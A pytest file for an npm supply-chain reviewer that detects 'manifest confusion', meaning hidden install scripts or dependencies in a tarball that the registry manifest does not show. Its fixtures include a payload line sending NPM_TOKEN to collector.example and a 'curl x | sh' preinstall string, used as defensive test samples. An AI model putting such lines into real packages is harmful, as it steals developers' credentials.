"""manifest-confusion: the tarball's package.json against the registry manifest.

Unit cases for the comparison (and npm publish's own normalisation, which must not count),
then `reviewer report` through the real RegistryService against the fixture registry: a
hidden postinstall, a hidden dependency, and a clean control; the scan cache keeps the
finding; install-script detection follows the tarball.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from servers.verdaccio import build_tarball, integrity_of

from reviewer.cli.main import main
from reviewer.registry.documents import VersionManifest
from reviewer.signals.finding import Severity
from reviewer.signals.install_scripts import hooks_disagree
from reviewer.signals.manifest_confusion import compare


def _manifest(**fields: Any) -> VersionManifest:
    return VersionManifest("pkg", "1.0.0", **fields)


def test_same_package_json_gives_nothing() -> None:
    inner = {"name": "pkg", "version": "1.0.0", "scripts": {"test": "jest"},
             "dependencies": {"a": "^1.0.0"}, "bin": "./cli.js", "os": ["linux"]}
    manifest = _manifest(scripts={"test": "jest"}, dependencies={"a": "^1.0.0"},
                         bin={"pkg": "cli.js"}, os=("linux",))
    assert compare("pkg@1.0.0", inner, manifest) is None


def test_npm_publish_normalisation_is_not_confusion() -> None:
    # binding.gyp: npm publish adds gypfile and `install: node-gyp rebuild` to the manifest;
    # optionalDependencies are merged into dependencies; "" is written "*"; "v1.0.0" cleaned.
    inner = {"name": "pkg", "version": "v1.0.0", "optionalDependencies": {"fsevents": "^2"},
             "dependencies": {"b": ""}, "scripts": {}}
    manifest = _manifest(scripts={"install": "node-gyp rebuild"}, gypfile=True,
                         dependencies={"fsevents": "^2", "b": "*"},
                         optional_dependencies={"fsevents": "^2"})
    assert compare("pkg@1.0.0", inner, manifest, has_binding_gyp=True) is None
    # without binding.gyp the same manifest script is a real difference
    finding = compare("pkg@1.0.0", inner, manifest, has_binding_gyp=False)
    assert finding is not None and finding.details["fields"] == ["scripts"]


def test_hidden_script_is_high_with_both_sides() -> None:
    inner = {"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}
    finding = compare("pkg@1.0.0", inner, _manifest(scripts={}))
    assert finding is not None and finding.id == "manifest-confusion"
    assert finding.severity is Severity.HIGH
    assert finding.details["differences"] == [
        {"field": "scripts", "tarball": "postinstall: node steal.js", "registry": "postinstall: (absent)"}]


def test_abbreviated_manifest_without_scripts_uses_has_install_script() -> None:
    inner = {"name": "pkg", "version": "1.0.0", "scripts": {"preinstall": "curl x | sh"}}
    finding = compare("pkg@1.0.0", inner, _manifest(has_install_script=False))
    assert finding is not None and finding.severity is Severity.HIGH
    assert compare("pkg@1.0.0", inner, _manifest(has_install_script=True)) is None
    assert compare("pkg@1.0.0", {"scripts": {"test": "x"}}, _manifest(has_install_script=False)) is None


def test_hidden_and_changed_dependencies_are_high() -> None:
    inner = {"name": "pkg", "version": "1.0.0", "dependencies": {"a": "^1.0.0", "evil": "1.0.0"},
             "peerDependencies": {"react": ">=18"}}
    finding = compare("pkg@1.0.0", inner, _manifest(dependencies={"a": "^2.0.0"},
                                                     peer_dependencies={"react": ">=18"}))
    assert finding is not None and finding.severity is Severity.HIGH
    sides = {(d["tarball"], d["registry"]) for d in finding.details["differences"]}
    assert sides == {("a: ^1.0.0", "a: ^2.0.0"), ("evil: 1.0.0", "evil: (absent)")}


@pytest.mark.parametrize(("inner", "fields", "field"), [
    ({"name": "other"}, {}, "name"),
    ({"version": "1.0.1"}, {}, "version"),
    ({"bin": {"ls": "./evil.js"}}, {"bin": {"ls": "cli.js"}}, "bin"),
    ({"bin": "./cli.js"}, {}, "bin"),
    ({"gypfile": False}, {"gypfile": True}, "gypfile"),
    ({"os": ["linux"]}, {}, "os"),
    ({"cpu": ["x64"]}, {"cpu": ("arm64",)}, "cpu"),
])
def test_other_fields_are_moderate(inner: dict[str, Any], fields: dict[str, Any], field: str) -> None:
    finding = compare("pkg@1.0.0", {"name": "pkg", "version": "1.0.0", **inner}, _manifest(**fields))
    assert finding is not None and finding.severity is Severity.MODERATE
    assert finding.details["fields"] == [field]


def test_tarball_wins_when_hooks_disagree() -> None:
    assert hooks_disagree({"postinstall": "x"}, _manifest(scripts={}))
    assert hooks_disagree({}, _manifest(scripts={"install": "y"}))
    assert not hooks_disagree({"test": "a"}, _manifest(scripts={"test": "b"}))
    assert hooks_disagree({"install": "x"}, _manifest())  # manifest without scripts (abbreviated)


# -- through `reviewer report` and the fixture registry ------------------------------------------

PAYLOAD = "require('https').get('https://collector.example/?' + process.env.NPM_TOKEN)\n"


def _publish(registry, name: str, version: str, manifest_extra: dict[str, Any],
             tarball_json: dict[str, Any] | None) -> str:  # noqa: ANN001
    """Serve name@version: the registry manifest gets `manifest_extra`; the tarball's
    package.json is `tarball_json` (None: the same as the manifest). Returns the integrity."""
    manifest = {"name": name, "version": version, **manifest_extra}
    inner = manifest if tarball_json is None else {"name": name, "version": version, **tarball_json}
    data = build_tarball({"package.json": json.dumps(inner), "index.js": "module.exports = 1\n",
                          "steal.js": PAYLOAD})
    integrity, shasum = integrity_of(data)
    registry.add_tarball(name, version, data)
    registry.add_packument({
        "name": name, "dist-tags": {"latest": version},
        "versions": {version: {**manifest, "dist": {
            "integrity": integrity, "shasum": shasum, "tarball": registry.tarball_url(name, version)}}},
    })
    return integrity


def _project(tmp_path: Path, registry, entries: dict[str, tuple[str, str, bool]]) -> Path:  # noqa: ANN001
    project = tmp_path / "project"
    project.mkdir()
    deps = {name: version for name, (version, _, _) in entries.items()}
    packages: dict[str, Any] = {"": {"name": "app", "version": "1.0.0", "dependencies": deps}}
    for name, (version, integrity, scripts) in entries.items():
        packages[f"node_modules/{name}"] = {"version": version, "integrity": integrity,
                                            "resolved": registry.tarball_url(name, version),
                                            **({"hasInstallScript": True} if scripts else {})}
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "dependencies": deps}))
    (project / "package-lock.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}))
    return project


def _report(project: Path, registry, cache: Path, capsys, *extra: str) -> dict[str, dict[str, dict]]:  # noqa: ANN001
    code = main(["report", str(project), "--format", "json", "--registry", registry.url,
                 "--cache-dir", str(cache), *extra])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return {p["name"]: {s["id"]: s for s in p["signals"]} for p in json.loads(captured.out)["packages"]}


@pytest.fixture
def confused(fixture_registry, tmp_path):  # noqa: ANN001
    scripts = {"postinstall": "node index.js"}
    entries = {
        # the manifest shows a harmless postinstall; the tarball runs another one
        "swapped": ("1.0.0", _publish(fixture_registry, "swapped", "1.0.0", {"scripts": scripts},
                                      {"scripts": {"postinstall": "node steal.js"}}), True),
        # no script in the manifest: a hidden postinstall, found by --deep
        "hidden-script": ("1.0.0", _publish(fixture_registry, "hidden-script", "1.0.0", {},
                                            {"scripts": {"postinstall": "node steal.js"}}), False),
        # a dependency only the tarball declares
        "hidden-dep": ("2.0.0", _publish(fixture_registry, "hidden-dep", "2.0.0",
                                         {"dependencies": {"a": "^1.0.0"}},
                                         {"dependencies": {"a": "^1.0.0", "evil-helper": "1.0.0"}}), False),
        # the control: tarball and manifest agree (with a script, so its tarball is read)
        "clean": ("1.0.0", _publish(fixture_registry, "clean", "1.0.0",
                                    {"scripts": scripts, "dependencies": {"a": "^1.0.0"}}, None), True),
    }
    return _project(tmp_path, fixture_registry, entries)


def test_report_flags_a_swapped_script_and_uses_the_tarballs(confused, fixture_registry, tmp_path, capsys) -> None:  # noqa: ANN001
    signals = _report(confused, fixture_registry, tmp_path / "cache", capsys)
    swapped = signals["swapped"]
    confusion = swapped["manifest-confusion"]
    assert confusion["severity"] == "high" and not confusion["unknown"]
    assert {"field": "scripts", "tarball": "postinstall: node steal.js",
            "registry": "postinstall: node index.js"} in confusion["details"]["differences"]
    # install-script detection follows the tarball: the command npm runs, and its code
    assert swapped["install-script"]["summary"] == "postinstall: node steal.js"
    assert swapped["install-script"]["details"]["origin"] == "tarball"
    assert "suspicious-code" in swapped
    assert "manifest-confusion" not in signals["clean"]
    # without --deep the tarballs of packages without scripts are not read
    assert "manifest-confusion" not in signals["hidden-script"]
    # a second run reads the scan cache: the finding is still there
    again = _report(confused, fixture_registry, tmp_path / "cache", capsys)
    assert again["swapped"]["manifest-confusion"] == confusion


def test_report_deep_finds_hidden_script_and_dependency(confused, fixture_registry, tmp_path, capsys) -> None:  # noqa: ANN001
    signals = _report(confused, fixture_registry, tmp_path / "cache", capsys, "--deep")
    hidden = signals["hidden-script"]
    assert hidden["manifest-confusion"]["severity"] == "high"
    assert hidden["manifest-confusion"]["details"]["fields"] == ["scripts"]
    assert hidden["install-script"]["summary"] == "postinstall: node steal.js"
    dep = signals["hidden-dep"]["manifest-confusion"]
    assert dep["severity"] == "high" and dep["details"]["differences"] == [
        {"field": "dependencies", "tarball": "evil-helper: 1.0.0", "registry": "evil-helper: (absent)"}]
    assert "install-script" not in signals["hidden-dep"]
    assert "manifest-confusion" not in signals["clean"]


# -- the TUI's scripts tab reads the tarball: it shows the confusion and the tarball's hooks --


class _Session:
    """What `detail_content.scripts` asks of a session, over one package."""

    def __init__(self, manifest_extra: dict[str, Any], tarball_json: dict[str, Any]) -> None:
        from reviewer.graph.model import Package
        from reviewer.registry.parse import parse_packument
        from reviewer.registry.tarball import open_tarball

        data = build_tarball({"package.json": json.dumps({"name": "tui-pkg", "version": "1.0.0", **tarball_json}),
                              "steal.js": PAYLOAD})
        integrity, _ = integrity_of(data)
        self._package = Package("tui-pkg", "1.0.0", integrity=integrity)
        self._tarball = open_tarball(data, integrity, None)
        self._packument = parse_packument({"name": "tui-pkg", "dist-tags": {"latest": "1.0.0"}, "versions": {
            "1.0.0": {"name": "tui-pkg", "version": "1.0.0", **manifest_extra}}})

    def package(self, key: str) -> Any:
        return self._package

    async def packument(self, name: str) -> Any:
        return self._packument

    async def tarball(self, key: str) -> Any:
        return self._tarball


async def _scripts_tab(session: _Session) -> str:
    import io

    from rich.console import Console

    from reviewer.tui.badges import Palette
    from reviewer.tui.widgets.detail_content import scripts

    renderable = await scripts(session, "tui-pkg@1.0.0", Palette.from_colors("red", "yellow", "green"))  # type: ignore[arg-type]
    console = Console(width=160, record=True, file=io.StringIO(), color_system=None)
    console.print(renderable)
    return console.export_text()


async def test_tui_scripts_tab_shows_the_confusion_and_the_tarballs_hook() -> None:
    text = await _scripts_tab(_Session({"scripts": {}}, {"scripts": {"postinstall": "node steal.js"}}))
    assert "manifest confusion" in text
    assert "scripts: tarball postinstall: node steal.js / registry postinstall: (absent)" in text
    assert "postinstall" in text and "node steal.js" in text and "No install scripts" not in text
    clean = await _scripts_tab(_Session({"scripts": {}}, {"scripts": {}}))
    assert "manifest confusion" not in clean and "No install scripts" in clean


# -- `review --diff` reads both tarballs: the head's confusion joins the change's findings ----


async def test_review_diff_flags_the_head_tarball(fixture_registry, registry_config) -> None:  # noqa: ANN001
    from reviewer.graph.model import LockfileInfo, Package
    from reviewer.registry.service import RegistryService
    from reviewer.review.changes import Change, ChangeKind, ChangeSet
    from reviewer.review.diffs import diff_change
    from reviewer.review.report import ReviewReport

    old = {"scripts": {"test": "x"}}
    new_integrity = _publish(fixture_registry, "drifty", "1.0.1", old,
                             {"scripts": {"test": "x", "preinstall": "node steal.js"}})
    newer = fixture_registry.packuments["drifty"]["versions"]
    old_integrity = _publish(fixture_registry, "drifty", "1.0.0", old, None)
    doc = fixture_registry.packuments["drifty"]
    doc["versions"].update(newer)  # one packument with both versions
    fixture_registry.add_packument(doc)
    base = Package("drifty", "1.0.0", integrity=old_integrity)
    head = Package("drifty", "1.0.1", integrity=new_integrity)
    change = Change("drifty", "1.0.0", "1.0.1", ChangeKind.UPGRADED, base, head)
    async with RegistryService(registry_config()) as service:
        diff = await diff_change(change, service)
    assert diff is not None and diff.error is None
    [finding] = diff.findings
    assert finding.id == "manifest-confusion" and finding.package == "drifty@1.0.1"
    assert finding.details["differences"] == [
        {"field": "scripts", "tarball": "preinstall: node steal.js", "registry": "preinstall: (absent)"}]
    lockfile = LockfileInfo(Path("package-lock.json"), "npm", "3")
    report = ReviewReport.build(ChangeSet((change,), lockfile, lockfile), {change.id: ()}, "a", "b",
                                diffs={change.id: diff})
    assert [f.id for f in report.changes[0].findings] == ["manifest-confusion"]


class _DiffSession:
    """What `diff_view.load_diff` asks of a session: tui-pkg 1.0.0 locked (clean), 1.0.1
    published with a postinstall its manifest does not show."""

    def __init__(self) -> None:
        from reviewer.graph.model import Package
        from reviewer.registry.parse import parse_packument
        from reviewer.registry.tarball import open_tarball

        self._tarballs = {}
        versions = {}
        for version, inner in (("1.0.0", {}), ("1.0.1", {"scripts": {"postinstall": "node steal.js"}})):
            data = build_tarball({"package.json": json.dumps({"name": "tui-pkg", "version": version, **inner}),
                                  "steal.js": PAYLOAD})
            self._tarballs[version] = open_tarball(data, integrity_of(data)[0], None)
            versions[version] = {"name": "tui-pkg", "version": version, "scripts": {}}
        self._package = Package("tui-pkg", "1.0.0")
        document = parse_packument({"name": "tui-pkg", "dist-tags": {"latest": "1.0.1"}, "versions": versions})
        self.packuments = {"tui-pkg": document}

    def package(self, key: str) -> Any:
        return self._package

    def change_of(self, key: str) -> None:
        return None

    async def packument(self, name: str) -> Any:
        return self.packuments[name]

    async def tarball(self, key: str) -> Any:
        return self._tarballs["1.0.0"]

    async def tarball_of(self, name: str, version: str) -> Any:
        return self._tarballs[version]


async def test_tui_diff_tab_names_the_confused_side() -> None:
    import io

    from rich.console import Console

    from reviewer.tui.badges import Palette
    from reviewer.tui.widgets.diff_view import load_diff

    renderable = await load_diff(_DiffSession(), "tui-pkg@1.0.0", "1.0.1",  # type: ignore[arg-type]
                                 Palette.from_colors("red", "yellow", "green"))
    console = Console(width=200, record=True, file=io.StringIO(), color_system=None)
    console.print(renderable)
    text = console.export_text()
    assert "manifest confusion  tui-pkg@1.0.1: the tarball's package.json differs" in text
    assert "tui-pkg@1.0.0:" not in text
